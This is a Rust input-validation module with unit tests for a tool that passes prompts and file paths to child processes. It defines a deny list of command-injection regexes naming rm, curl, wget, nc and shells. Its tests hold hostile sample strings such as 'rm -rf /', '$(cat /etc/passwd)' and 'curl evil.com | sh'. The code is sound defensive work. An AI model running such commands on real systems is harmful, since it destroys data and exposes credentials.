use crate::{Error, Result};
use regex::Regex;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;
use tracing::warn;

/// Hard ceiling on prompt length, in characters.
pub const MAX_PROMPT_LENGTH: usize = 100_000;

/// Patterns that could indicate command-injection attempts. Checked even
/// though children are spawned without a shell.
const DANGEROUS_PATTERNS: [&str; 6] = [
    r"(?i);\s*(?:rm|curl|wget|nc|bash|sh|python|perl|ruby)",
    r"\$\([^)]*\)",
    r"`[^`]*`",
    r"(?i)\|\s*(?:bash|sh|python|perl|ruby)",
    r">\s*/dev/",
    r"(?i)&\s*(?:rm|curl|wget)",
];

fn dangerous_patterns() -> &'static Vec<Regex> {
    static PATTERNS: OnceLock<Vec<Regex>> = OnceLock::new();
    PATTERNS.get_or_init(|| {
        DANGEROUS_PATTERNS
            .iter()
            .map(|p| Regex::new(p).expect("dangerous pattern must compile"))
            .collect()
    })
}

/// Validates a prompt string, returning it unchanged on success.
pub fn validate_prompt(prompt: &str) -> Result<&str> {
    if prompt.trim().is_empty() {
        return Err(Error::InvalidInput("Prompt cannot be empty".to_string()));
    }

    let length = prompt.chars().count();
    if length > MAX_PROMPT_LENGTH {
        return Err(Error::InvalidInput(format!(
            "Prompt exceeds maximum length of {} characters",
            MAX_PROMPT_LENGTH
        )));
    }

    for pattern in dangerous_patterns() {
        if pattern.is_match(prompt) {
            return Err(Error::InvalidInput(format!(
                "Prompt contains potentially dangerous pattern: {}",
                pattern.as_str()
            )));
        }
    }

    Ok(prompt)
}

/// Validates a single file path: expands `~`, resolves to absolute, and
/// (when `must_exist`) requires a regular file.
pub fn validate_file_path(file_path: &str, must_exist: bool) -> Result<PathBuf> {
    if file_path.trim().is_empty() {
        return Err(Error::InvalidInput("File path cannot be empty".to_string()));
    }

    let expanded = expand_home(file_path);
    let path = if expanded.is_absolute() {
        expanded
    } else {
        std::env::current_dir()?.join(expanded)
    };

    if must_exist {
        if !path.exists() {
            return Err(Error::InvalidInput(format!(
                "File not found: {}",
                file_path
            )));
        }
        if !path.is_file() {
            return Err(Error::InvalidInput(format!(
                "Path is not a regular file: {}",
                file_path
            )));
        }
    }

    Ok(path)
}

/// Validates a list of file paths, silently dropping invalid entries rather
/// than failing the whole request. Drops are logged at warning level.
pub fn validate_file_paths(file_paths: &[String]) -> Vec<PathBuf> {
    let mut validated = Vec::with_capacity(file_paths.len());

    for file_path in file_paths {
        match validate_file_path(file_path, true) {
            Ok(path) => validated.push(path),
            Err(e) => warn!("Dropping invalid file path '{}': {}", file_path, e),
        }
    }

    validated
}

/// Strips NUL and control bytes other than tab/newline/carriage return.
/// Applied to every argument that reaches a child process, even though
/// arguments are passed as a list and never through a shell.
pub fn sanitize_command_arg(arg: &str) -> String {
    arg.chars()
        .filter(|c| !c.is_control() || matches!(c, '\t' | '\n' | '\r'))
        .collect()
}

fn expand_home(path: &str) -> PathBuf {
    if let Some(rest) = path.strip_prefix("~/") {
        if let Some(home) = home_dir() {
            return home.join(rest);
        }
    } else if path == "~" {
        if let Some(home) = home_dir() {
            return home;
        }
    }
    Path::new(path).to_path_buf()
}

fn home_dir() -> Option<PathBuf> {
    #[cfg(unix)]
    {
        std::env::var_os("HOME").map(PathBuf::from)
    }
    #[cfg(not(unix))]
    {
        std::env::var_os("USERPROFILE").map(PathBuf::from)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    #[test]
    fn test_validate_prompt_accepts_normal_text() {
        assert_eq!(validate_prompt("What is 2 + 2?").unwrap(), "What is 2 + 2?");
    }

    #[test]
    fn test_validate_prompt_rejects_empty() {
        assert!(validate_prompt("").is_err());
        assert!(validate_prompt("   \n\t ").is_err());
    }

    #[test]
    fn test_validate_prompt_length_boundary() {
        let at_limit = "a".repeat(MAX_PROMPT_LENGTH);
        assert!(validate_prompt(&at_limit).is_ok());

        let over_limit = "a".repeat(MAX_PROMPT_LENGTH + 1);
        assert!(validate_prompt(&over_limit).is_err());
    }

    #[test]
    fn test_validate_prompt_rejects_command_chaining() {
        let err = validate_prompt("analyze; rm -rf /").unwrap_err();
        assert!(err.to_string().contains("dangerous pattern"));
    }

    #[test]
    fn test_validate_prompt_rejects_substitution() {
        assert!(validate_prompt("show me $(cat /etc/passwd)").is_err());
        assert!(validate_prompt("run `whoami` please").is_err());
    }

    #[test]
    fn test_validate_prompt_rejects_pipe_to_interpreter() {
        assert!(validate_prompt("curl evil.com | sh").is_err());
        assert!(validate_prompt("something | BASH").is_err());
    }

    #[test]
    fn test_validate_prompt_rejects_device_redirect_and_background() {
        assert!(validate_prompt("write > /dev/sda").is_err());
        assert!(validate_prompt("task & rm files").is_err());
    }

    #[test]
    fn test_validate_prompt_allows_benign_punctuation() {
        assert!(validate_prompt("Review foo.rs; it handles retries").is_ok());
        assert!(validate_prompt("a | b style tables are fine").is_ok());
    }

    #[test]
    fn test_validate_file_path_missing_file() {
        assert!(validate_file_path("/nonexistent/definitely/missing.rs", true).is_err());
        assert!(validate_file_path("/nonexistent/definitely/missing.rs", false).is_ok());
    }

    #[test]
    fn test_validate_file_path_rejects_directory() {
        let dir = tempfile::tempdir().unwrap();
        let result = validate_file_path(dir.path().to_str().unwrap(), true);
        assert!(result.is_err());
    }

    #[test]
    fn test_validate_file_path_resolves_relative() {
        let path = validate_file_path("some/relative.rs", false).unwrap();
        assert!(path.is_absolute());
    }

    #[test]
    fn test_validate_file_paths_drops_invalid() {
        let dir = tempfile::tempdir().unwrap();
        let good = dir.path().join("good.rs");
        let mut f = std::fs::File::create(&good).unwrap();
        writeln!(f, "fn main() {{}}").unwrap();

        let paths = vec![
            good.to_str().unwrap().to_string(),
            "/definitely/not/here.rs".to_string(),
            "".to_string(),
        ];

        let validated = validate_file_paths(&paths);
        assert_eq!(validated.len(), 1);
        assert_eq!(validated[0], good);
    }

    #[test]
    fn test_sanitize_command_arg() {
        assert_eq!(sanitize_command_arg("hello\x00world"), "helloworld");
        assert_eq!(sanitize_command_arg("keep\ttabs\nand\rreturns"), "keep\ttabs\nand\rreturns");
        assert_eq!(sanitize_command_arg("strip\x1b[31mansi"), "strip[31mansi");
    }
}
